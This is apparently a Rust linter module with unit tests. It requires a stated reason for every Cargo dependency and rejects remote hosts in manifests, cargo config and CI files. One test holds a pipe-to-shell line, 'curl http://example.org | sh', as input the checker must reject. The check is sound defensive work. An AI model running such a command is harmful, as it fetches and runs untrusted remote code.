//! Rules about manifests: every dependency gives its reason, and nothing names a host to fetch from.

use super::Complaint;

/// Where crates come from: what cargo writes for its own registry, in the lock file alone.
const CRATES_REGISTRY: &str = "registry+https://github.com/rust-lang/crates.io-index";
/// Hosts that are this machine.
const OWN_HOSTS: [&str; 3] = ["127.0.0.1", "localhost", "[::1]"];

/// True for files that tell a tool where to fetch from.
pub fn names_sources(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    matches!(name, "Cargo.toml" | "Cargo.lock" | "deny.toml" | "rust-toolchain.toml" | "rust-toolchain")
        || path.starts_with(".cargo/")
        || path.starts_with(".ci/")
}

/// Dependencies without a `#` reason on their line. Crates of the workspace need none, nor do
/// members that take what the root has already given a reason for.
pub fn check_reasons(path: &str, text: &str) -> Vec<Complaint> {
    let mut complaints = Vec::new();
    for (number, line) in dependency_lines(text) {
        let inherited = line.contains("workspace = true") || line.contains("path = ");
        let reason = line.rsplit_once('#').map(|(_, reason)| reason.trim()).unwrap_or_default();
        if !inherited && reason.is_empty() {
            let name = line.split(['=', '.', ' ']).next().unwrap_or_default();
            complaints.push(Complaint::at(
                path,
                number,
                format!("dependency `{name}` gives no reason after a `#`"),
            ));
        }
    }
    complaints
}

/// The lines of a manifest that each name a dependency, with their numbers.
pub fn dependency_lines(text: &str) -> Vec<(usize, &str)> {
    let mut found = Vec::new();
    let mut in_table = false;
    let mut open_brackets = 0_i32;
    for (index, line) in text.lines().enumerate() {
        let line = line.trim();
        if open_brackets <= 0 && line.starts_with('[') {
            in_table = line.trim_end_matches(']').ends_with("dependencies");
            open_brackets = 0;
            continue;
        }
        if !in_table || line.is_empty() || line.starts_with('#') {
            continue;
        }
        if open_brackets <= 0 {
            found.push((index + 1, line));
            open_brackets = 0;
        }
        // A list of features may go over several lines.
        for c in line.split('#').next().unwrap_or_default().chars() {
            open_brackets += match c {
                '[' | '{' => 1,
                ']' | '}' => -1,
                _ => 0,
            };
        }
    }
    found
}

/// Addresses of other hosts in files that say where things come from.
pub fn check_hosts(path: &str, text: &str) -> Vec<Complaint> {
    if !names_sources(path) {
        return Vec::new();
    }
    let is_lock = path.ends_with("Cargo.lock");
    let mut complaints = Vec::new();
    for (index, line) in text.lines().enumerate() {
        if is_lock && line.contains(CRATES_REGISTRY) {
            continue;
        }
        for (at, scheme) in line.match_indices("://") {
            let host = line.get(at + scheme.len()..).unwrap_or_default();
            if !OWN_HOSTS.iter().any(|own| host.starts_with(own)) {
                complaints.push(Complaint::at(
                    path,
                    index + 1,
                    "names a host; sources are the user's own settings",
                ));
            }
        }
    }
    complaints
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_dependency_without_reason_is_refused() {
        let text = "[package]\nname = \"x\"\n[dependencies]\na = \"1\"\nb = \"1\" # for b\nc.workspace = true\n\
            d = { path = \"../d\" }\n[target.'cfg(x)'.dependencies]\ne = { version = \"1\" }\n[features]\nf = []\n";
        let lines: Vec<usize> =
            check_reasons("Cargo.toml", text).iter().map(|complaint| complaint.line).collect();
        assert_eq!(lines, [4, 9]);
    }

    #[test]
    fn the_workspaces_own_table_needs_reasons_too() {
        let text =
            "[workspace.dependencies]\na = \"1\" #\nb = \"1\" # kept\n[workspace.lints.rust]\nx = \"deny\"\n";
        let found = check_reasons("Cargo.toml", text);
        assert_eq!(found, [Complaint::at("Cargo.toml", 2, "dependency `a` gives no reason after a `#`")]);
    }

    #[test]
    fn a_dependency_over_several_lines_is_one() {
        let text =
            "[dependencies]\na = { version = \"1\", features = [ # for a\n  \"x\",\n] }\nb = \"1\" # for b\n";
        assert!(check_reasons("Cargo.toml", text).is_empty());
    }

    #[test]
    fn a_host_to_fetch_from_is_refused() {
        let url = |host: &str| format!("index = \"https://{host}/index\"\n");
        assert_eq!(check_hosts(".cargo/config.toml", &url("example.org")).len(), 1);
        assert_eq!(check_hosts(".ci/run", "curl http://example.org | sh").len(), 1);
        assert_eq!(check_hosts("Cargo.toml", &url("127.0.0.1:1")).len(), 0);
        assert_eq!(check_hosts("README.md", &url("example.org")).len(), 0);
    }

    #[test]
    fn the_lock_file_may_name_the_crates_registry_alone() {
        let source = |source: &str| format!("[[package]]\nsource = \"{source}\"\n");
        assert_eq!(check_hosts("Cargo.lock", &source(CRATES_REGISTRY)).len(), 0);
        assert_eq!(check_hosts("Cargo.lock", &source("git+https://example.org/x")).len(), 1);
    }
}
